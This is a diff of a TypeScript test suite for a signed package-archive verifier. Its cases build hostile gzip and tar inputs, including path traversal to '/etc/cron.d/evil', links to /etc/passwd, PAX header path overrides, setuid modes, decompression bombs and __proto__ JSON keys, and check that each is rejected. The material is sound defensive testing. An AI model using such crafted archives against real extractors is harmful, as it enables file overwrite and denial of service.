@@ -1,376 +1,745 @@
 import assert from 'node:assert/strict';
-import { mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
+import type { KeyObject } from 'node:crypto';
+import { mkdirSync, readdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { test } from 'node:test';
 import { gzipSync } from 'node:zlib';
+import { signed } from '../support/archives.js';
 import { temporaryFolder } from '../support/temporary.js';
-import { BUDGET, BundleStore, readArchive, SEAL_FILE, sealOf, writeArchive } from './built.js';
-import { archiveOf, filesOf, rawArchive, rawTar, releaseKey, soundEntries, type RawEntry } from './support.js';
+import { BUDGET, BundleStore, sha256, TrustStore, verifyArchive, type ArchiveManifest } from './built.js';
+import { rawGzip, rawHeader, rawTar, soundFiles, spoilt, type RawEntry, type Spoil } from './hostile.js';
+import { acme, filesOf, releaseKey } from './support.js';
 
-type Made = Buffer | Promise<Buffer>;
-type Case = [what: string, make: () => Made, code: string, sentence: RegExp];
+type Case = [what: string, spoil: Spoil | ((key: KeyObject) => Buffer), code: string, sentence: RegExp];
 
 const INVALID = 'ARCHIVE_INVALID';
-const with_ = (...more: RawEntry[]): Buffer => rawArchive([...soundEntries(), ...more]);
-const listing = (path: string): Promise<Buffer> => archiveOf('1.0.0', { [path]: 'x' });
-const packageJson = (text: string): Promise<Buffer> => archiveOf('1.0.0', { 'package.json': text });
-const seal = (content: string): Buffer => {
-  const entries = soundEntries();
-  return rawArchive([{ name: `package/${SEAL_FILE}`, content }, ...entries.slice(1)]);
-};
-/** The seal of version 1.0.0 with a changed list. */
-function list(
-  change: (list: { name: string; version: string; spec: unknown; files: unknown[] }) => unknown,
-  files = filesOf('1.0.0'),
-): Buffer {
-  const envelope = JSON.parse(sealOf('@example/acme', '1.0.0', files).content.toString()) as { payload: string };
-  const content = JSON.parse(Buffer.from(envelope.payload, 'base64').toString()) as Parameters<typeof change>[0];
-  return seal(
-    JSON.stringify({ ...envelope, payload: Buffer.from(JSON.stringify(change(content))).toString('base64') }),
-  );
-}
+const LARGE = 'ARCHIVE_TOO_LARGE';
+const INCOMPLETE = 'ARCHIVE_INCOMPLETE';
+/** Another entry behind the files. */
+const behind = (...more: RawEntry[]): Spoil => ({ tar: (entries) => [...entries, ...more] });
+/** Another entry in the place of the first file. */
+const instead = (entry: Partial<RawEntry>): Spoil => ({
+  tar: ([first, ...rest]) => [{ ...first!, ...entry }, ...rest],
+});
+/** The first file in another form, with the manifest made to list what the tar then has. */
+const listing = (path: string): Spoil => ({
+  tar: ([first, ...rest]) => [{ ...first!, name: `package/${path}` }, ...rest],
+  manifest: (manifest) => ({ ...manifest, files: [{ ...manifest.files[0]!, path }, ...manifest.files.slice(1)] }),
+});
+const packageJson = (text: string): Spoil => ({ files: soundFiles({ 'package.json': text }) });
+const sbom = (change: (sbom: Record<string, unknown>) => unknown): Spoil => ({
+  files: soundFiles().map((file) =>
+    file.path === 'sbom.cdx.json'
+      ? { ...file, content: Buffer.from(JSON.stringify(change(JSON.parse(file.content.toString())))) }
+      : file,
+  ),
+});
+const list = (change: (manifest: ArchiveManifest) => unknown): Spoil => ({ manifest: change });
+const base256 = (...bytes: number[]): Buffer => Buffer.concat([Buffer.alloc(12 - bytes.length), Buffer.from(bytes)]);
+const pax = (...records: string[]): string =>
+  records.map((record) => `${record.length + String(record.length + 3).length + 2} ${record}\n`).join('');
 
 const CASES: Case[] = [
-  ['nothing', () => Buffer.alloc(0), 'ARCHIVE_INCOMPLETE', /cut off/],
-  ['text', () => Buffer.from('<html>Sign in to the hotel</html>'), INVALID, /is not a gzipped tar/],
-  ['a zip', () => Buffer.from('PK\x03\x04'), INVALID, /is not a gzipped tar/],
-  ['a gzip of text', () => gzipSync('hello'), 'ARCHIVE_INCOMPLETE', /ends before the end of its tar/],
-  ['a gzip in a gzip', () => gzipSync(gzipSync(Buffer.alloc(4096))), 'ARCHIVE_INCOMPLETE', /ends before/],
+  // What is no archive.
+  ['nothing', { file: () => Buffer.alloc(0) }, INCOMPLETE, /cut off/],
+  ['text', { file: () => Buffer.from('<html>Sign in to the hotel</html>') }, INVALID, /is not a gzipped tar/],
+  ['a zip', { file: () => Buffer.from('PK\x03\x04 and more than ten bytes') }, INVALID, /is not a gzipped tar/],
+  ['a gzip of text', { file: () => rawGzip(Buffer.from('hello')) }, INCOMPLETE, /ends before the end of its tar/],
+  ['a gzip in a gzip', { file: (archive) => rawGzip(archive) }, INVALID, /does not begin with rackwatt\.manifest/],
+  ['an empty tar', { file: () => rawGzip(Buffer.alloc(1024)) }, INVALID, /does not begin with/],
+  ['an archive of npm', { file: () => gzipSync(rawTar([{ name: 'package/package.json' }])) }, INVALID, /gzip header/],
+
+  // Gzip.
   [
-    'a gzip in a gzip, as long as a tar',
-    () => gzipSync(Buffer.concat([rawArchive(soundEntries()), Buffer.alloc(4096)])),
+    'a gzip with a name',
+    { file: (archive) => Buffer.concat([archive.subarray(0, 3), Buffer.from([8]), archive.subarray(4)]) },
     INVALID,
-    /does not begin with/,
+    /gzip header with more/,
   ],
-  ['an empty tar', () => gzipSync(Buffer.alloc(1024)), INVALID, /does not begin with/],
   [
     'bytes behind the gzip',
-    async () => Buffer.concat([await archiveOf('1.0.0'), Buffer.from('garbage')]),
+    { file: (archive) => Buffer.concat([archive, Buffer.from('garbage')]) },
     INVALID,
-    /cannot be unzipped/,
+    /has 7 bytes behind its end/,
   ],
   [
     'zeros behind the gzip',
-    async () => Buffer.concat([await archiveOf('1.0.0'), Buffer.alloc(512)]),
+    { file: (archive) => Buffer.concat([archive, Buffer.alloc(512)]) },
     INVALID,
     /512 bytes behind/,
   ],
   [
     'a second gzip',
-    async () => Buffer.concat([await archiveOf('1.0.0'), gzipSync('more')]),
-    'ARCHIVE_INCOMPLETE',
-    /ends before/,
+    { gzip: (tar) => Buffer.concat([rawGzip(tar), rawGzip(rawTar([{ name: 'package/late.js', content: 'x' }]))]) },
+    INVALID,
+    /second gzip behind its tar/,
   ],
-  ['no trailer', () => rawArchive(soundEntries(), 0), 'ARCHIVE_INCOMPLETE', /ends before/],
-  ['half a trailer', () => rawArchive(soundEntries(), 512), 'ARCHIVE_INCOMPLETE', /ends before/],
+  [
+    'a second gzip with nothing in it',
+    { gzip: (tar) => Buffer.concat([rawGzip(tar), rawGzip(Buffer.alloc(0))]) },
+    INVALID,
+    /second gzip/,
+  ],
+  [
+    'a tar in two gzips',
+    { gzip: (tar) => Buffer.concat([rawGzip(tar.subarray(0, 512)), rawGzip(tar.subarray(512))]) },
+    INCOMPLETE,
+    /ends before|ends within/,
+  ],
+  ['a gzip whose check sum is wrong', { gzip: (tar) => rawGzip(tar, { sum: 7 }) }, INVALID, /check sum is wrong/],
+  ['a gzip whose length is wrong', { gzip: (tar) => rawGzip(tar, { length: 7 }) }, INVALID, /check sum is wrong/],
+  ['a gzip cut off, and signed so', { gzip: (tar) => rawGzip(tar).subarray(0, -30) }, INCOMPLETE, /cut off/],
+  [
+    'an archive cut off',
+    { file: (archive) => archive.subarray(0, -30) },
+    INCOMPLETE,
+    /cut off: it has \d+ of the \d+ bytes/,
+  ],
+
+  // Ends of the tar.
+  ['no trailer', { tar: (entries) => rawTar(entries, 0) }, INCOMPLETE, /ends before the end of its tar/],
+  ['half a trailer', { tar: (entries) => rawTar(entries, 512) }, INCOMPLETE, /ends before/],
+  [
+    'a third block of zeros',
+    { tar: (entries) => rawTar(entries, 1536) },
+    INVALID,
+    /something behind the end of its tar/,
+  ],
   [
     'files behind the trailer',
-    () => gzipSync(Buffer.concat([rawTar(soundEntries()), rawTar([{ name: 'package/late.js', content: 'x' }])])),
+    { tar: (entries) => Buffer.concat([rawTar(entries), rawTar([{ name: 'package/late.js', content: 'x' }])]) },
     INVALID,
-    /holds something that is no file/,
+    /something behind the end of its tar/,
   ],
   [
     'a block that is no header',
-    () => gzipSync(Buffer.concat([rawTar(soundEntries(), 0), Buffer.alloc(512, 'x'), Buffer.alloc(1024)])),
+    { tar: (entries) => Buffer.concat([rawTar(entries, 0), Buffer.alloc(512, 'x'), Buffer.alloc(1024)]) },
     INVALID,
-    /is not a tar|no file/,
+    /something that is no file/,
   ],
-  ['traversal', () => with_({ name: 'package/../evil.js' }), INVALID, /leads elsewhere/],
-  ['traversal in the middle', () => with_({ name: 'package/dist/../../evil.js' }), INVALID, /leads elsewhere/],
-  ['a dot in a path', () => with_({ name: 'package/./dist/x.js' }), INVALID, /leads elsewhere/],
-  ['a doubled slash', () => with_({ name: 'package/dist//x.js' }), INVALID, /leads elsewhere/],
-  ['an absolute path', () => with_({ name: '/etc/cron.d/evil' }), INVALID, /not below package/],
-  ['an absolute path below package', () => with_({ name: 'package//etc/evil' }), INVALID, /absolute path/],
-  ['another top folder', () => with_({ name: 'evil/x.js' }), INVALID, /not below package/],
+  ['a header whose check sum is wrong', instead({ broken: true }), INVALID, /something that is no file where/],
+  [
+    'an end in the middle',
+    { tar: ([first, ...rest]) => Buffer.concat([rawTar([first!]), rawTar(rest)]) },
+    INVALID,
+    /lacks "package\.json"/,
+  ],
+
+  // Paths.
+  ['traversal', behind({ name: 'package/../evil.js' }), INVALID, /leads elsewhere/],
+  ['traversal in the place of a file', instead({ name: 'package/dist/../../evil.js' }), INVALID, /leads elsewhere/],
+  [
+    'traversal that is listed',
+    listing('../../evil.js'),
+    INVALID,
+    /lists "\.\.\/\.\.\/evil\.js", a path that leads elsewhere/,
+  ],
+  ['a dot in a path', listing('./dist/x.js'), INVALID, /leads elsewhere/],
+  ['a doubled slash', listing('dist//x.js'), INVALID, /leads elsewhere/],
+  ['an absolute path', instead({ name: '/etc/cron.d/evil' }), INVALID, /not below package/],
+  ['an absolute path that is listed', listing('/etc/cron.d/evil'), INVALID, /an absolute path/],
+  ['another top folder', instead({ name: 'evil/x.js' }), INVALID, /not below package/],
+  ['a path of 300 characters', listing(`${'d/'.repeat(3)}${'x'.repeat(300)}`), INVALID, /more than 200 characters/],
+  ['a folder name of 101 characters', listing(`${'d'.repeat(101)}/x`), INVALID, /characters other than/],
+  ['5,000 folders deep', listing(`${'d/'.repeat(5000)}x`), INVALID, /more than 200 characters/],
+  ['13 folders deep', listing(`${'d/'.repeat(12)}x.js`), INVALID, /folders deep/],
+  [
+    'a NUL in a name',
+    instead({ name: 'package/dist/index.js\0.png' }),
+    INVALID,
+    /with more than "rackwatt bundle pack" writes/,
+  ],
+  ['a NUL in a name that is listed', listing('dist/index.js\0.png'), INVALID, /characters other than/],
+  ['a line break in a name', listing('dist/x\n.js'), INVALID, /characters other than/],
+  ['a backslash', listing('dist\\..\\..\\evil.js'), INVALID, /characters other than/],
+  ['a drive', listing('C:evil.js'), INVALID, /characters other than/],
+  ['a stream of NTFS', listing('dist/x.js:hidden'), INVALID, /characters other than/],
+  ['a device of Windows', listing('dist/aux.js'), INVALID, /some systems cannot hold/],
+  ['another device of Windows', listing('COM1'), INVALID, /some systems cannot hold/],
+  ['a dot at the end', listing('dist/x.'), INVALID, /some systems cannot hold/],
+  ['a blank at the end', listing('dist/x '), INVALID, /characters other than/],
+  ['a name that turns the text around', listing('dist/\u202Egnp.js'), INVALID, /characters other than/],
+  [
+    'a name that is no UTF-8',
+    behind({ name: Buffer.from('7061636b6167652fff2e6a73', 'hex') }),
+    INVALID,
+    /characters other than/,
+  ],
+  [
+    'names that differ by composition alone',
+    { files: soundFiles({ 'e\u0301.js': '', '\u00e9.js': '' }) },
+    INVALID,
+    /characters other than/,
+  ],
+  [
+    'names that differ by case alone',
+    { files: soundFiles({ 'dist/INDEX.js': '' }) },
+    INVALID,
+    /"dist\/INDEX\.js", which is there twice/,
+  ],
+  ['a file in a file', { files: soundFiles({ 'dist/index.js/x.js': '' }) }, INVALID, /which lies in a file/],
+  ['a file that is a folder', { files: soundFiles({ dist: '' }) }, INVALID, /a file and a folder/],
+  [
+    'its own manifest among the files',
+    { files: soundFiles({ 'rackwatt.manifest.json': '{}' }) },
+    INVALID,
+    /"rackwatt\.manifest\.json", which is there twice/,
+  ],
+
+  // Entries that are no files.
   [
     'a symbolic link',
-    () => with_({ name: 'package/dist/x.js', type: '2', link: '/etc/passwd' }),
+    instead({ type: '2', link: '/etc/passwd', content: '' }),
     INVALID,
-    /a SymbolicLink; only plain files/,
+    /a symbolic link; only plain files/,
   ],
   [
-    'a hard link',
-    () => with_({ name: 'package/dist/x.js', type: '1', link: '/etc/passwd' }),
+    'a symbolic link behind the files',
+    behind({ name: 'package/x', type: '2', link: '../../../etc' }),
     INVALID,
-    /a Link; only plain files/,
+    /a symbolic link; only/,
   ],
   [
-    'a character device',
-    () => with_({ name: 'package/dist/null', type: '3' }),
+    'a chain of symbolic links',
+    {
+      tar: (entries) => [
+        { name: 'package/a', type: '2', link: '.' },
+        { name: 'package/a/b', type: '2', link: '..' },
+        { name: 'package/a/b/evil.js', content: 'x' },
+        ...entries,
+      ],
+    },
     INVALID,
-    /a CharacterDevice; only plain files/,
+    /"package\/a", a symbolic link/,
   ],
-  ['a block device', () => with_({ name: 'package/dist/sda', type: '4' }), INVALID, /a BlockDevice; only plain files/],
-  ['a pipe', () => with_({ name: 'package/dist/pipe', type: '6' }), INVALID, /a FIFO; only plain files/],
-  ['a folder', () => with_({ name: 'package/dist/', type: '5' }), INVALID, /a Directory; only plain files/],
-  ['an unknown type', () => with_({ name: 'package/dist/x.js', type: 'Q' }), INVALID, /only plain files|not a tar/],
+  ['a hard link', instead({ type: '1', link: '/etc/passwd', content: '' }), INVALID, /a hard link; only plain files/],
   [
-    'an extended header',
-    () => with_({ name: 'PaxHeader', type: 'x', content: '30 path=package/../../evil.js\n' }, { name: 'package/x.js' }),
+    'a hard link onto its own file',
+    behind({ name: 'package/x', type: '1', link: 'package/dist/index.js' }),
     INVALID,
-    /extended headers/,
+    /a hard link; only/,
+  ],
+  ['a character device', behind({ name: 'package/null', type: '3' }), INVALID, /a character device; only/],
+  ['a block device', behind({ name: 'package/sda', type: '4' }), INVALID, /a block device; only/],
+  ['a pipe', behind({ name: 'package/pipe', type: '6' }), INVALID, /a pipe; only plain files/],
+  ['a folder', behind({ name: 'package/dist/', type: '5' }), INVALID, /a folder; only plain files/],
+  ['a folder in the place of a file', instead({ type: '5', content: '' }), INVALID, /a folder; only plain files/],
+  ['a sparse file', instead({ type: 'S' }), INVALID, /a sparse file; only plain files/],
+  ['a contiguous file', instead({ type: '7' }), INVALID, /a contiguous file; only/],
+  [
+    'a volume label',
+    { tar: (entries) => [{ name: 'label', type: 'V' }, ...entries] },
+    INVALID,
+    /a volume label \(GNU\)/,
+  ],
+  [
+    'a dump of a folder',
+    { tar: (entries) => [{ name: 'package/', type: 'D', content: 'Yx\0\0' }, ...entries] },
+    INVALID,
+    /a list of a folder/,
+  ],
+  ['a vendor’s type', instead({ type: 'Q' }), INVALID, /an entry of the type "Q"/],
+  ['the type of old tars', instead({ type: '\0' }), INVALID, /with more than "rackwatt bundle pack" writes/],
+
+  // Headers that change the next one.
+  [
+    'an extended header with another path',
+    { tar: (entries) => [{ name: 'PaxHeader', type: 'x', content: pax('path=package/../../evil.js') }, ...entries] },
+    INVALID,
+    /"PaxHeader", an extended header/,
+  ],
+  [
+    'an extended header with another size',
+    { tar: (entries) => [{ name: 'PaxHeader', type: 'x', content: pax('size=1') }, ...entries] },
+    INVALID,
+    /an extended header/,
+  ],
+  [
+    'an extended header with attributes',
+    {
+      tar: (entries) => [
+        { name: 'PaxHeader', type: 'x', content: pax('SCHILY.xattr.security.capability=\x01') },
+        ...entries,
+      ],
+    },
+    INVALID,
+    /an extended header/,
+  ],
+  [
+    'an extended header of 8 MiB',
+    { tar: (entries) => [{ name: 'PaxHeader', type: 'x', content: Buffer.alloc(8 << 20, 'a') }, ...entries] },
+    INVALID,
+    /an extended header/,
   ],
   [
     'a global extended header',
-    () => with_({ name: 'PaxHeader', type: 'g', content: '21 path=/etc/passwd\n' }),
+    { tar: (entries) => [{ name: 'PaxHeader', type: 'g', content: pax('path=/etc/passwd') }, ...entries] },
     INVALID,
-    /extended headers/,
+    /a global extended header/,
+  ],
+  [
+    'an extended header of Solaris',
+    { tar: (entries) => [{ name: 'PaxHeader', type: 'X', content: pax('path=x') }, ...entries] },
+    INVALID,
+    /extended header \(Solaris\)/,
   ],
   [
     'a long name of GNU tar',
-    () =>
-      with_({ name: '././@LongLink', type: 'L', content: `package/${'a'.repeat(300)}\0` }, { name: 'package/x.js' }),
+    { tar: (entries) => [{ name: '././@LongLink', type: 'L', content: `package/${'a'.repeat(300)}\0` }, ...entries] },
     INVALID,
-    /extended headers/,
+    /a long name \(GNU\)/,
   ],
+  [
+    'a long link name of GNU tar',
+    { tar: (entries) => [{ name: '././@LongLink', type: 'K', content: '/etc/passwd\0' }, ...entries] },
+    INVALID,
+    /a long link name \(GNU\)/,
+  ],
+
+  // Sizes and modes.
+  ['a size that is a lie, too long', instead({ size: 1 << 20 }), INVALID, /with a size of 1048576, not 27/],
+  ['a size that is a lie, too short', instead({ size: 3 }), INVALID, /with a size of 3, not 27/],
+  ['a size below zero', instead({ size: Buffer.from('-0000000001\0') }), INVALID, /with a size of "-0000000001"/],
+  ['a size below zero in base 256', instead({ size: Buffer.alloc(12, 0xff) }), INVALID, /with a size of/],
+  [
+    'a size of 2^63 in base 256',
+    instead({ size: Buffer.concat([Buffer.from([0x80]), base256(0x80, 0, 0, 0, 0, 0, 0, 0).subarray(1)]) }),
+    INVALID,
+    /with a size of/,
+  ],
+  [
+    'the right size in base 256',
+    instead({ size: Buffer.concat([Buffer.from([0x80]), base256(27).subarray(1)]) }),
+    INVALID,
+    /with a size of/,
+  ],
+  ['a huge size', instead({ size: 0o77777777777 }), INVALID, /with a size of 8589934591/],
+  [
+    'a size that is no number',
+    instead({ size: Buffer.from('hello world\0') }),
+    INVALID,
+    /with a size of "hello world"/,
+  ],
+  ['the mode of a setuid program', instead({ mode: '0004755' }), INVALID, /with the mode "0004755", not 0644/],
+  ['a mode that lets everybody write', instead({ mode: '0000666' }), INVALID, /with the mode "0000666"/],
+  ['a program where a file is listed', instead({ mode: '0000755' }), INVALID, /with the mode "0000755"/],
+  [
+    'a setuid program that is listed',
+    list((manifest) => ({ ...manifest, files: manifest.files.map((file) => ({ ...file, mode: '4755' })) })),
+    INVALID,
+    /"files" is not a list/,
+  ],
+  [
+    'something behind the end of a file',
+    {
+      tar: (entries) => {
+        const tar = rawTar(entries);
+        tar[512 + 30] = 1;
+        return tar;
+      },
+    },
+    INVALID,
+    /something behind the end of dist\/index\.js/,
+  ],
+
+  // What the manifest does not say.
   [
     'a file twice',
-    () => with_({ name: 'package/dist/index.js', content: 'evil' }),
+    behind({ name: 'package/dist/index.js', content: 'evil' }),
     INVALID,
-    /"dist\/index.js", which is there twice/,
+    /"package\/dist\/index\.js" twice/,
   ],
   [
-    'a file twice, by case',
-    () => with_({ name: 'package/dist/INDEX.js', content: 'evil' }),
+    'a file twice in a row',
+    { tar: ([first, ...rest]) => [first!, first!, ...rest] },
     INVALID,
-    /which is there twice/,
+    /"dist\/index\.js" twice/,
   ],
   [
-    'a file twice, by composition',
-    () => with_({ name: 'package/\u00e9.js' }, { name: 'package/e\u0301.js' }),
+    'a file that is not listed',
+    behind({ name: 'package/dist/extra.js', content: 'evil' }),
     INVALID,
-    /characters other than/,
+    /"package\/dist\/extra\.js", which its manifest does not list/,
   ],
-  ['the list twice', () => rawArchive([soundEntries()[0]!, ...soundEntries()]), INVALID, /which is there twice/],
-  ['the list not first', () => rawArchive(soundEntries().reverse()), INVALID, /does not begin with/],
-  ['a file in a file', () => with_({ name: 'package/dist/index.js/x.js' }), INVALID, /which lies in a file/],
-  ['a file that is a folder', () => with_({ name: 'package/dist' }), INVALID, /a file and a folder/],
   [
-    'a file that the list does not name',
-    () => with_({ name: 'package/dist/extra.js', content: 'evil' }),
+    '50,000 entries that are not listed',
+    {
+      tar: (entries) =>
+        Buffer.concat([rawTar(entries, 0), Buffer.alloc(50_000 * 512, rawHeader({ name: 'package/f' }))]),
+    },
     INVALID,
-    /does not name/,
+    /which its manifest does not list/,
   ],
   [
     'a file that is missing',
-    () => rawArchive(soundEntries().slice(0, -1)),
+    { tar: (entries) => entries.slice(0, -1) },
     INVALID,
-    /lacks "package.json", which its list/,
+    /lacks "sbom\.cdx\.json", which its manifest lists/,
+  ],
+  [
+    'files in another order',
+    { tar: (entries) => [...entries].reverse() },
+    INVALID,
+    /lacks "dist\/index\.js" where its manifest lists it/,
   ],
   [
     'an altered file',
-    () =>
-      rawArchive([
-        ...soundEntries().slice(0, 1),
-        ...soundEntries(filesOf('1.0.0', { 'dist/index.js': 'exports.version = "6.6.6";' })).slice(1),
-      ]),
+    instead({ content: 'exports.version = "6.6.6";\n' }),
     INVALID,
-    /it was altered/,
+    /another dist\/index\.js than its manifest lists; it was altered/,
   ],
   [
-    'a size that is a lie, too long',
-    () => rawArchive([...soundEntries().slice(0, 2), { ...soundEntries()[2]!, size: 1 << 20 }]),
+    'the manifest twice in front',
+    { front: ([first]) => [first!, first!] },
     INVALID,
-    /not a tar|no file/,
+    /something behind the end of its tar/,
   ],
   [
-    'a size that is a lie, too short',
-    () => rawArchive([...soundEntries().slice(0, 2), { ...soundEntries()[2]!, size: 3 }]),
+    'a file before the manifest',
+    { front: ([first]) => [{ name: 'package/dist/index.js', content: 'x' }, first!] },
     INVALID,
-    /altered|no file|not a tar/,
-  ],
-  ['a size below zero', () => rawArchive([...soundEntries(), { name: 'package/x', size: -1 }]), INVALID, /./],
-  ['a NUL in a name', () => with_({ name: 'package/dist/x.js\0.png' }), INVALID, /does not name/],
-  ['a line break in a name', () => with_({ name: 'package/dist/x\n.js' }), INVALID, /characters other than/],
-  ['a backslash', () => with_({ name: 'package/dist\\..\\..\\evil.js' }), INVALID, /characters other than/],
-  ['a drive', () => with_({ name: 'package/C:evil.js' }), INVALID, /characters other than/],
-  ['a stream of NTFS', () => with_({ name: 'package/dist/x.js:hidden' }), INVALID, /characters other than/],
-  ['a device of Windows', () => with_({ name: 'package/dist/aux.js' }), INVALID, /some systems cannot hold/],
-  ['another device of Windows', () => with_({ name: 'package/COM1' }), INVALID, /some systems cannot hold/],
-  ['a dot at the end', () => with_({ name: 'package/dist/x.' }), INVALID, /some systems cannot hold/],
-  ['a blank at the end', () => with_({ name: 'package/dist/x ' }), INVALID, /characters other than/],
-  [
-    'a name that turns the text around',
-    () => with_({ name: 'package/dist/\u202Egnp.js' }),
-    INVALID,
-    /characters other than/,
+    /does not begin with/,
   ],
   [
-    'a name that is no UTF-8',
-    () => with_({ name: Buffer.from('7061636b6167652fff2e6a73', 'hex') }),
+    'a file behind the manifest',
+    { front: ([first]) => [first!, { name: 'package/dist/evil.js', content: 'x' }] },
     INVALID,
-    /characters other than/,
+    /something behind the end of its tar/,
   ],
-  ['deep folders', () => listing(`${'d/'.repeat(12)}x.js`), INVALID, /folders deep/],
   [
-    'a long path',
-    () => listing(`${`${'d'.repeat(60)}/`.repeat(3)}${'x'.repeat(30)}`),
+    'a manifest that is a link',
+    { front: ([first]) => [{ ...first!, type: '2', link: '/etc/passwd' }] },
     INVALID,
-    /more than 200 characters/,
+    /does not begin with/,
   ],
-  ['a bomb', () => gzipSync(Buffer.alloc(BUDGET.unpackedBytes + 1)), 'ARCHIVE_TOO_LARGE', /unpacks to more than/],
-  ['too long a file', () => Buffer.alloc(BUDGET.archiveBytes + 1), 'ARCHIVE_TOO_LARGE', /has more than/],
+  [
+    'no manifest',
+    { file: () => signed(acme()).subarray(signed(acme()).indexOf(acme().content)) },
+    INVALID,
+    /does not begin with/,
+  ],
+
+  // Size.
+  [
+    'a bomb in the place of the manifest',
+    { file: () => rawGzip(Buffer.alloc(64 << 20)) },
+    INVALID,
+    /does not begin with/,
+  ],
+  [
+    'a bomb as its manifest',
+    { envelopeText: () => Buffer.alloc(BUDGET.manifest + 1, ' ') },
+    LARGE,
+    /manifest of more than 4194304 bytes/,
+  ],
+  [
+    'a bomb behind its files',
+    { tar: (entries) => Buffer.concat([rawTar(entries), Buffer.alloc(64 << 20)]) },
+    INVALID,
+    /something behind the end of its tar/,
+  ],
+  ['a bomb in the place of a file', { tar: () => Buffer.alloc(64 << 20) }, INVALID, /lacks "dist\/index\.js"/],
+  [
+    'a bomb that is listed',
+    list((manifest) => ({
+      ...manifest,
+      files: manifest.files.map((file) => ({ ...file, size: BUDGET.unpacked })),
+      archive: { ...manifest.archive, unpacked: BUDGET.unpacked * 3 },
+    })),
+    LARGE,
+    /unpacks to more than/,
+  ],
+  [
+    'more bytes than any archive may have',
+    { file: (archive) => Buffer.concat([archive, Buffer.alloc(BUDGET.archive + BUDGET.manifest)]) },
+    LARGE,
+    /has more than 67108864 bytes/,
+  ],
   [
     'too many files',
-    () => with_(...Array.from({ length: BUDGET.files }, (_, index) => ({ name: `package/f${index}` }))),
-    INVALID,
+    list((manifest) => ({
+      ...manifest,
+      files: Array.from({ length: BUDGET.files + 1 }, (_, index) => ({ ...manifest.files[0]!, path: `f${index}` })),
+    })),
+    LARGE,
     /more than 5000 files/,
   ],
-  ['no list', () => writeArchive(filesOf('1.0.0')), INVALID, /does not begin with/],
-  ['a list that is no JSON', () => seal('{'), INVALID, /is not JSON/],
   [
-    'a list that is no UTF-8',
-    () =>
-      rawArchive([
-        { name: `package/${SEAL_FILE}`, content: Buffer.from([0x22, 0xff, 0x22]) },
-        ...soundEntries().slice(1),
-      ]),
+    'a size that the files do not add up to',
+    list((manifest) => ({ ...manifest, archive: { ...manifest.archive, unpacked: 7 } })),
     INVALID,
-    /is not UTF-8/,
+    /do not add up/,
   ],
-  ['a list that is null', () => seal('null'), INVALID, /type "undefined"/],
-  ['a deep list', () => seal('['.repeat(100_000)), INVALID, /nested more than 64 deep/],
-  ['quotes without end', () => seal(`"${'\\"'.repeat(500_000)}`), INVALID, /is not JSON/],
-  ['a key twice', () => seal('{"payload":"a","payload":"b"}'), INVALID, /"payload" twice/],
-  ['a key twice, spelt differently', () => seal('{"payload":"a","p\\u0061yload":"b"}'), INVALID, /"payload" twice/],
-  ['__proto__', () => seal('{"__proto__":{"payload":"a"}}'), INVALID, /"__proto__"/],
+  [
+    'another number of files',
+    list((manifest) => ({ ...manifest, archive: { ...manifest.archive, entries: 1 } })),
+    INVALID,
+    /do not add up/,
+  ],
+  [
+    'a size that is no number',
+    list((manifest) => ({ ...manifest, files: manifest.files.map((file) => ({ ...file, size: 1e300 })) })),
+    INVALID,
+    /"files" is not a list/,
+  ],
+  [
+    'a size of 2^53',
+    list((manifest) => ({ ...manifest, archive: { ...manifest.archive, length: 2 ** 53 } })),
+    INVALID,
+    /"archive" lacks/,
+  ],
+
+  // Digests.
+  [
+    'a digest of another archive',
+    list((manifest) => ({ ...manifest, archive: { ...manifest.archive, sha256: '0'.repeat(64) } })),
+    INVALID,
+    /does not have the digest/,
+  ],
+  [
+    'a flipped bit in its content',
+    {
+      file: (archive) => {
+        archive[archive.length - 100]! ^= 4;
+        return archive;
+      },
+    },
+    INVALID,
+    /does not have the digest/,
+  ],
+  [
+    'a length too short',
+    list((manifest) => ({ ...manifest, archive: { ...manifest.archive, length: 10 } })),
+    INVALID,
+    /bytes behind its end/,
+  ],
+
+  // The envelope.
+  ['a manifest that is no JSON', { envelopeText: () => '{' }, INVALID, /is not JSON/],
+  ['a manifest that is no UTF-8', { envelopeText: () => Buffer.from([0x22, 0xff, 0x22]) }, INVALID, /is not UTF-8/],
+  ['a manifest that is null', { envelopeText: () => 'null' }, INVALID, /type "undefined"/],
+  ['a deep manifest', { envelopeText: () => '['.repeat(100_000) }, INVALID, /nested more than 64 deep/],
+  ['quotes without end', { envelopeText: () => `"${'\\"'.repeat(500_000)}` }, INVALID, /is not JSON/],
+  ['a key twice', { envelopeText: (text) => text.replace('{', '{"payload":"a",') }, INVALID, /"payload" twice/],
+  [
+    'a key twice, spelt differently',
+    { envelopeText: (text) => text.replace('{', '{"p\\u0061yload":"a",') },
+    INVALID,
+    /"payload" twice/,
+  ],
+  [
+    '__proto__ in the envelope',
+    { envelopeText: (text) => text.replace('{', '{"__proto__":{"payload":"a"},') },
+    INVALID,
+    /"__proto__"/,
+  ],
   [
     'another type of payload',
-    () => seal(JSON.stringify({ payloadType: 'application/vnd.in-toto+json', payload: '', signatures: [] })),
+    { envelope: (envelope) => ({ ...envelope, payloadType: 'application/vnd.in-toto+json' }) },
     INVALID,
     /of the type "application\/vnd.in-toto\+json"/,
   ],
   [
-    'a payload that is no base64',
-    () => seal(JSON.stringify({ payloadType: 'application/vnd.rackwatt.bundle+json', payload: '%%', signatures: [] })),
+    'a trust root in the place of the manifest',
+    { envelope: (envelope) => ({ ...envelope, payloadType: 'application/vnd.rackwatt.trust+json' }) },
     INVALID,
-    /no signed list/,
+    /of the type/,
+  ],
+  [
+    'a payload that is no base64',
+    { envelope: (envelope) => ({ ...envelope, payload: '%%' }) },
+    INVALID,
+    /no signed document/,
   ],
   [
     'signatures that are none',
-    () =>
-      seal(JSON.stringify({ payloadType: 'application/vnd.rackwatt.bundle+json', payload: '', signatures: [null] })),
+    { envelope: (envelope) => ({ ...envelope, signatures: [null] }) },
     INVALID,
     /signature that is none/,
   ],
   [
     '17 signatures',
-    () =>
-      seal(
-        JSON.stringify({
-          payloadType: 'application/vnd.rackwatt.bundle+json',
-          payload: '',
-          signatures: Array.from({ length: 17 }, () => null),
-        }),
-      ),
+    { envelope: (envelope) => ({ ...envelope, signatures: Array.from({ length: 17 }, () => null) }) },
     INVALID,
     /more than 16 signatures/,
   ],
-  ['a list of another version', () => list((content) => ({ ...content, spec: 2 })), INVALID, /not one of version 1/],
+  [
+    'one signature twice',
